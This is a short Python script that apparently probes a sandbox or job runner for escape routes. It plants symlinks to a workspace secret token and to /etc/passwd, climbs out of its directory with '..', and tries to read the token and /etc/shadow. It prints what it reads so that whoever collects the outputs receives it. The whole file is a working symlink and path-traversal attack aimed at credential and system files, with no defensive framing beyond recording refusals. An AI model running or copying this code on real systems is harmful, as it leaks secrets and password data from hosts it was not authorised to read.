"""Plant links to host files for whoever collects our outputs, and climb out with `..`."""

import json
import os

secret = os.path.join(os.environ["WORKSPACE"], "var", "secrets", "token.enc")
os.symlink(secret, "leak.txt")
os.symlink("/etc/passwd", "passwd-link")
os.symlink("../../../..", "up")
read = {}
for path in ("leak.txt", "up/var/secrets/token.enc", "../../../../../etc/shadow"):
    try:
        with open(path) as handle:
            read[path] = handle.read()
    except OSError as exc:
        read[path] = f"refused: {exc.__class__.__name__}"
print(json.dumps(read))
